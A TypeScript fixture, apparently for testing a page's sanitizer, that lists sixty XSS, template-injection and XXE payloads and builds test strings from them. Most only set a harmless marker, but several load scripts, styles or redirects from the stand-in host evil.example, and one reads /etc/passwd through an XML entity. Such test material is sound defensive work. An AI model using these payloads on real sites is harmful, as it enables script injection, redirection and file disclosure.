/**
 * What runs in a page that puts text where it does not belong: sixty ways, each sets `ran` or asks `evil.example`.
 * Those that swallow what follows them stand last.
 */
export const HOSTILE: readonly string[] = [
  '<script>ran=1</script>',
  '"><script>ran=2</script>',
  "'><script>ran=3</script>",
  '</script><script>ran=4</script>',
  '<ScRiPt>ran=5</ScRiPt >',
  '<script src="//evil.example/6.js"></script>',
  '<script/src=data:text/javascript,ran=7></script>',
  '<img src=x onerror=ran=8>',
  '"><img src=x onerror=ran=9>',
  "' onerror='ran=10' x='",
  '" onfocus="ran=11" autofocus tabindex="0" x="',
  '" onmouseover="ran=12" style="position:fixed;inset:0" x="',
  '`><img src=x onerror=`ran=13`>',
  '<svg onload=ran=14>',
  '<svg><script>ran=15</script></svg>',
  '<svg><animate onbegin=ran=16 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran=17"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:ran=18">x</mi></math>',
  '<body onload=ran=19>',
  '<input onfocus=ran=20 autofocus>',
  '<details open ontoggle=ran=21>',
  '<video src=x onerror=ran=22></video>',
  '<audio src=x onerror=ran=23></audio>',
  '<video><source onerror=ran=24></video>',
  '<iframe src="javascript:ran=25"></iframe>',
  '<iframe srcdoc="<script>parent.ran=26</script>"></iframe>',
  '<object data="javascript:ran=27"></object>',
  '<embed src="//evil.example/28.swf">',
  '<a href="javascript:ran=29">press</a>',
  '[press](javascript:ran=30)',
  'javascript:ran=31',
  'JaVaScRiPt:ran=32//',
  'data:text/html,<script>ran=33</script>',
  '<base href="//evil.example/34/">',
  '<link rel=stylesheet href="//evil.example/35.css">',
  '<link rel=import href="//evil.example/36.html">',
  '<meta http-equiv=refresh content="0;url=//evil.example/37">',
  '<form action="//evil.example/38"><button>go</button></form>',
  '<button formaction="javascript:ran=39">go</button>',
  '<isindex type=image src=1 onerror=ran=40>',
  '<marquee onstart=ran=41>x</marquee>',
  '<div style="background:url(//evil.example/42.png)">x</div>',
  '"style="background:url(//evil.example/43.png)"x="',
  '<template><script>ran=44</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran=45>">',
  '{{constructor.constructor("ran=46")()}}',
  '${ran=47}',
  '<%= ran=48 %>',
  '&lt;script&gt;ran=49&lt;/script&gt;',
  '&#60;script&#62;ran=50&#60;/script&#62;',
  '\\u003cscript\\u003eran=51\\u003c/script\\u003e',
  '\\"};ran=52;//',
  "';ran=53;//",
  ']]><script>ran=54</script><![CDATA[',
  '?><?xml-stylesheet href="//evil.example/55.xsl"?>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '--><img src=x onerror=ran=57><!--',
  '</title><script>ran=58</script>',
  '</style><script>ran=59</script><style>@import "//evil.example/59.css";',
  '</textarea><script>ran=60</script><textarea>',
];

/** Those that swallow what follows them. */
const SWALLOWING = 4;

/**
 * As many of them as fit into a text of `most` signs, beginning with another each turn. Six turns of ten steps show
 * them all even where a text is short.
 */
export function hostileText(turn: number, most: number): string {
  const others = HOSTILE.slice(0, -SWALLOWING);
  const first = (turn * 10) % HOSTILE.length;
  const inTurn = [...HOSTILE.slice(first), ...HOSTILE.slice(0, first)];
  const inOrder =
    most > 5_000
      ? [
          ...others.slice(turn % others.length),
          ...others.slice(0, turn % others.length),
          ...HOSTILE.slice(-SWALLOWING),
        ]
      : inTurn;
  let text = '';
  for (const one of inOrder) if (text.length + one.length < most) text += `${one} `;
  return text.trimEnd();
}
